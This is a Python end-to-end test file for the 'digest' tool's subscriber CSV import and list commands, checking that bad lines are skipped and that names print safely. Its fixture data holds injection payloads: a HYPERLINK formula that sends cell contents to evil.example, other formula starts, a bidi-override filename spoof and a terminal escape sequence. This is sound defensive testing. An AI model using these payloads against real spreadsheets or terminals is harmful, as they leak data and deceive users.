"""`digest subscribers import` and `list` through the real command: bad CSV lines are reported
and skipped, and names print without formulas or terminal and bidi controls."""

from __future__ import annotations

from pathlib import Path

from digest.cli.output import safe_cell
from support.e2e import digest, write_config

CSV = (
    "email,name\n"
    "ann@example.org,=HYPERLINK(\"https://evil.example/?\"&A1;\"click\")\n"
    '"bob@example.org,Bob\n'  # a stray quote
    "cy@example.org,+1 555 0100\n"
    "=cmd@example.org,@SUM(A1:A9)\n"
    "dee@example.org,-2+3\n"
    "eve@example.org,Eve \u202egnp.exe\u202c Lee\n"
    "fay@example.org,\"\tTabbed\"\n"
    "gus@example.org,\u0639\u0644\u06cc\u200c\u0631\u0636\u0627\n"
    "hal@example.org," + "x" * (1 << 20) + "\n"
    "ivy@example.org,Ivy \x1b]0;pwned\x07\n"
)


def test_import_skips_bad_lines_and_list_prints_safe_names(tmp_path: Path) -> None:
    config = write_config(tmp_path, ["https://example.org/feed/"], subscribers=None)
    people = tmp_path / "people.csv"
    people.write_text(CSV, encoding="utf-8")

    result = digest(config, "subscribers", "import", str(people))
    assert result.code == 1  # some lines were bad: the exit status says so
    problems = (result.out + result.err).splitlines()
    assert any(f"{people}:3: this line is not valid CSV (a quoted field is never closed" in line
               for line in problems), problems
    assert any(f"{people}:10: this line is not valid CSV (longer than 64 KB)" in line
               for line in problems), problems

    listed = digest(config, "subscribers", "list")
    assert listed.code == 0, listed.err
    assert listed.out.splitlines() == [
        "ann@example.org\t'=HYPERLINK(\"https://evil.example/?\"&A1;\"click\")\tactive",
        "cy@example.org\t'+1 555 0100\tactive",
        "'=cmd@example.org\t'@SUM(A1:A9)\tactive",
        "dee@example.org\t'-2+3\tactive",
        "eve@example.org\tEve \\u202egnp.exe\\u202c Lee\tactive",
        "fay@example.org\tTabbed\tactive",
        "gus@example.org\t\u0639\u0644\u06cc\u200c\u0631\u0636\u0627\tactive",
        "ivy@example.org\tIvy ]0;pwned\tactive",
    ]


def test_safe_cell_neutralises_every_formula_start_and_control() -> None:
    for start in "=+-@\t\r":
        assert safe_cell(start + "1+1").startswith("'")
    assert safe_cell("Zoë O'Brien") == "Zoë O'Brien"
    assert safe_cell("a\x1b[2Jb\x85c\u2028d\u200fe\ufeff") == (
        "a\\u001b[2Jb\\u0085c\\u2028d\\u200fe\\ufeff")
    assert safe_cell("\U0001f469\u200d\U0001f4bb") == "\U0001f469\u200d\U0001f4bb"
